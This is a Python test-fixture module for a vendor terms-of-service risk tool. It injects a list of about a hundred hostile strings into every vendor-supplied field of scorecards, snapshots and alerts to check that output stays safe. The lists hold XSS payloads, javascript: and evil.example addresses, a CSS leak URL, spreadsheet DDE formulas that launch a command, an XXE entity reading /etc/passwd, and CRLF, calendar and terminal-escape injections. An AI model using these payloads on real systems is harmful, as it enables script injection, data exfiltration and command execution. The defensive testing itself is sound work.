"""What a vendor's page may hold to attack whoever reads about it, and scorecards and alerts that carry it."""

from __future__ import annotations

import hashlib
import re
from dataclasses import dataclass, replace
from datetime import UTC, date, datetime

from tests.fakes.assessed import AT, assessed, document, finding
from tosrisk.core.score import score_vendor
from tosrisk.domain.alerts import Alert, AlertKind, OptOutPlace, PlaceKind
from tosrisk.domain.changes import Direction, StanceChange
from tosrisk.domain.exports import KeptText, VendorFacts
from tosrisk.domain.findings import Finding
from tosrisk.domain.promises import Promise, PromiseEvent, PromiseEventKind, PromiseState
from tosrisk.domain.scorecard import (
    AssessedDocument,
    Contradiction,
    Evidence,
    HedgedClause,
    Scorecard,
    Vagueness,
)
from tosrisk.domain.snapshot import GateVerdict, Quality, Snapshot
from tosrisk.domain.taxonomy import DataScope, Dimension, Severity, Stance
from tosrisk.domain.vendor import Document, DocumentKind, Tier, Vendor

HTML = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title></head><body onload=alert(1)>",
    "</textarea><svg/onload=alert(1)>",
    "--><script>alert(1)</script><!--",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    '" onmouseover="alert(1)',
    "` onmouseover=alert(1)",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>terms</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example/?leak)}</style>",
    "<div style='position:fixed;inset:0;z-index:99999'>",
    "<template><slot></template>{{7*7}}{% raw %}${7*7}#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#x6A;avascript:alert(1)",
    "＜script＞alert(1)＜/script＞",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ſcript>alert(1)</ſcript>",
)
"""Markup, event handlers, style, templates and entities."""

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "//evil.example/terms",
    "https://acme.example@evil.example/",
    "https://evil.example/\r\nSet-Cookie: x=1",
    "https://evil.example/'\"><script>alert(1)</script>",
    "\\\\evil.example\\share",
    "https://evil.example/\u202egpj.exe",
)
"""Addresses that no link may lead to."""

MARKDOWN = (
    "[terms](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "<https://evil.example>",
    "https://evil.example/www and www.evil.example",
    "[x]: https://evil.example 'reference'",
    "# A heading of mine",
    "words\n# A heading of mine\n\n---\n",
    "words\n===",
    "| a | b |\n| - | - |\n| c | d |",
    "```\ncode\n```",
    "~~~\ncode\n~~~",
    "    indented code",
    "- a list\n  - below",
    "1. a list",
    "> a quotation",
    "**bold** _slanted_ ~~struck~~ `code`",
    "[^1] and [^1]: a footnote",
    "@everyone #12 owner/repo#1 :rocket: someone@evil.example",
    "\\[x\\](https://evil.example)",
    "***",
    "- [ ] a task",
)
"""Marks of Markdown, mentions, and addresses that programs find by themselves."""

FORMULAS = (
    '=HYPERLINK("https://evil.example?x="&A1,"terms")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '"=1+1',
    "'=1+1",
    "\u00a0\u200b=1+1",
    "＝1+1",
    '","=1+1","',
    ";=1+1;",
    "%0A=1+1",
)
"""What spreadsheets take for formulas, or for the end of a cell."""

LINES = (
    "words\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:mine",
    "words\nATTACH:https://evil.example/x",
    "words\\nX-MINE:1;VALUE=URI:x,y",
    "words\u2028ATTENDEE:mailto:x@evil.example",
    "words\x0bEND:VCALENDAR\x0cBEGIN:VCALENDAR\x85X",
    "é" * 74 + "\r\n END:VEVENT",
    "]]><script>alert(1)</script><![CDATA[",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<?xml-stylesheet href='https://evil.example/x.xsl'?>",
    "<![CDATA[ words ]]>",
    '{"quote": "mine"}, \\u0000 \\" \\',
    "{0} {{1}} [link](1)",
)
"""Ends of lines and records in calendars, XML, JSON and messages with placeholders."""

CHARACTERS = (
    "\x00words\x01\x02\x08\x0e\x1f\x7f\x80\x9f",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b2J\x90q\x9c",
    "\u202esdrow\u202c \u2066x\u2069 \u200e\u200f\u061c",
    "\ud800 half \udfff",
    "\ufffe\uffff\ufdd0",
    "\U000e0041\U000e0042 tags",
    "w\u200bo\u200cr\u200dd\ufeffs",
    "a\u0300" * 60,
    "w" * 5000,
    "\U0001f469\u200d\U0001f4bb " * 40,
    "",
    "   ",
)
"""Control, direction and hidden characters, escapes of terminals, words without end, and nothing at all."""

HOSTILE = (*HTML, *ADDRESSES, *MARKDOWN, *FORMULAS, *LINES, *CHARACTERS)
"""All of them, some hundred."""

STORABLE = tuple(words for words in HOSTILE if not re.search("[\ud800-\udfff]", words))
"""Those that a text can hold: it is kept, and read again, as UTF-8."""

HARMLESS = "words"
"""What a hostile text is put in the place of: the structure of what comes out must be the same."""

_BETWEEN = "\n\n"
_BEFORE, _AFTER = "20260101T060000Z-aaaaaaaaaaaa", "20260301T060000Z-bbbbbbbbbbbb"


@dataclass(frozen=True, slots=True, kw_only=True)
class Told:
    """A vendor, and what was told about it, with one text wherever a vendor's words can stand."""

    facts: VendorFacts
    alerts: tuple[Alert, ...]

    @property
    def card(self) -> Scorecard:
        return self.facts.card


def told(text: str, vendor: str = "acme") -> Told:
    """A vendor with `text` as name, titles, addresses, headings, clauses and the words around dates."""
    terms = _terms(text, vendor)
    privacy = _privacy(text, vendor)
    documents = tuple(each.document for each in (terms, privacy))
    named = Vendor(id=vendor, name=text, documents=documents, tier=Tier.BUSINESS, domains=(text,))
    card = score_vendor(named, (terms, privacy))
    card = replace(card, promises=(_promise(terms, text),), **_doubts(terms, text))
    facts = VendorFacts(card=card, texts=tuple(map(_kept, (terms, privacy))))
    return Told(facts=facts, alerts=(_change(terms.document, text), _outage(privacy.document, text)))


def _terms(text: str, vendor: str) -> AssessedDocument:
    said = [
        (Dimension.TRAINING, Stance.PERMITS, text, DataScope.OF),
        (Dimension.CONTENT_RIGHTS, Stance.BROAD, f"{text} is ours.", None),
        (Dimension.RETENTION, Stance.UNBOUNDED, f"As of {text}, we keep it.", DataScope.OF),
        (Dimension.RETENTION, Stance.BOUNDED, f"We delete {text} within 30 days.", DataScope.OF),
        (Dimension.TERMS_CHANGE, Stance.UNILATERAL, f"Last updated: {text}", None),
    ]
    findings: list[Finding] = []
    for dimension, stance, words, about in said:
        findings.append(
            finding(
                dimension,
                stance,
                words,
                about=about,
                heading=(text, f"2. {text}"),
                lead_in=text,
                rules=(text,),
                confidence=0.95,
                start=findings[-1].clause.end + len(_BETWEEN) if findings else 0,
            )
        )
    own = document(vendor, title=text, url=text, vendor_name=text)
    return assessed(own, *findings, detail=text, language=text)


def _privacy(text: str, vendor: str) -> AssessedDocument:
    url = f"https://acme.example/{text}"
    own = document(vendor, DocumentKind.PRIVACY, title=text, url=url, vendor_name=text)
    return assessed(own, finding(Dimension.SHARING, Stance.BROAD, f"We sell {text}.", about=DataScope.BOTH))


def _doubts(terms: AssessedDocument, text: str) -> dict[str, tuple]:
    """A contradiction and a hedge, whether or not there is one in the text."""
    against, promise = (Evidence(finding=each, document=terms.document) for each in terms.findings[2:4])
    hedged = HedgedClause(evidence=promise, hedges=(text,))
    return {
        "contradictions": (
            Contradiction(
                dimension=Dimension.RETENTION, tiers=(Tier.BUSINESS,), promise=promise, against=against
            ),
        ),
        "vagueness": (Vagueness(document=terms.document, clauses=2, hedged=1, hedges=1, worst=(hedged,)),),
    }


def _promise(terms: AssessedDocument, text: str) -> Promise:
    kept = finding(Dimension.TRAINING, Stance.PROHIBITS, text, about=DataScope.OF)
    key = terms.document.key
    event = PromiseEvent(kind=PromiseEventKind.DROPPED, at=AT, document=key, sentence=text, note=text)
    return Promise(
        id="0123456789abcdef",
        first=kept,
        first_document=key,
        first_seen=AT,
        fullest=kept,
        now=kept,
        document=key,
        last_seen=AT,
        state=PromiseState.DROPPED,
        events=(replace(event, kind=PromiseEventKind.MADE), event),
    )


def _kept(each: AssessedDocument) -> KeptText:
    assert each.version is not None
    text = _BETWEEN.join(finding.clause.text for finding in each.findings)
    return KeptText(snapshot=capture(each.document, each.version.snapshot, text), text=text)


def capture(document: Document, snapshot: str, text: str) -> Snapshot:
    """A snapshot of a document that a server has sent this text of, and in its headers."""
    body = text.encode("utf-8", "surrogatepass")
    return Snapshot(
        document=document.key,
        id=snapshot,
        url=document.url,
        final_url=document.url,
        status=200,
        headers=(("content-type", "text/html"), ("x-words", text)),
        fetched_at=AT,
        via="http",
        redirects=(),
        sha256=hashlib.sha256(body).hexdigest(),
        size=len(body),
        media_type="text/html",
        charset=text,
        gate=GateVerdict(quality=Quality.ACCEPTED),
        previous="",
    )


def _change(document: Document, text: str) -> Alert:
    change = StanceChange(
        dimension=Dimension.TRAINING,
        direction=Direction.WORSE,
        old_stance=Stance.PROHIBITS,
        new_stance=Stance.PERMITS,
        severity=Severity.CRITICAL,
        before=text,
        after=f"{text} may be used to train.",
        why=text,
    )
    return Alert(
        id=hashlib.sha256(b"change").hexdigest(),
        kind=AlertKind.MATERIAL_CHANGE,
        document=document,
        raised_at=datetime(2026, 3, 1, 6, 0, tzinfo=UTC),
        severity=Severity.CRITICAL,
        dimensions=(Dimension.TRAINING,),
        summary=text,
        changes=(change,),
        snapshot_before=f"{document.key}/{_BEFORE}",
        snapshot_after=f"{document.key}/{_AFTER}",
        effective=date(2026, 4, 1),
        opt_out=(OptOutPlace(kind=PlaceKind.SETTING, place=text, quote=text),),
        remarks=(text,),
    )


def _outage(document: Document, text: str) -> Alert:
    return Alert(
        id=hashlib.sha256(b"outage").hexdigest(),
        kind=AlertKind.SOURCE_BROKEN,
        document=document,
        raised_at=datetime(2026, 3, 1, 6, 0, tzinfo=UTC),
        severity=Severity.MEDIUM,
        dimensions=(),
        summary=text,
        remarks=(text,),
    )
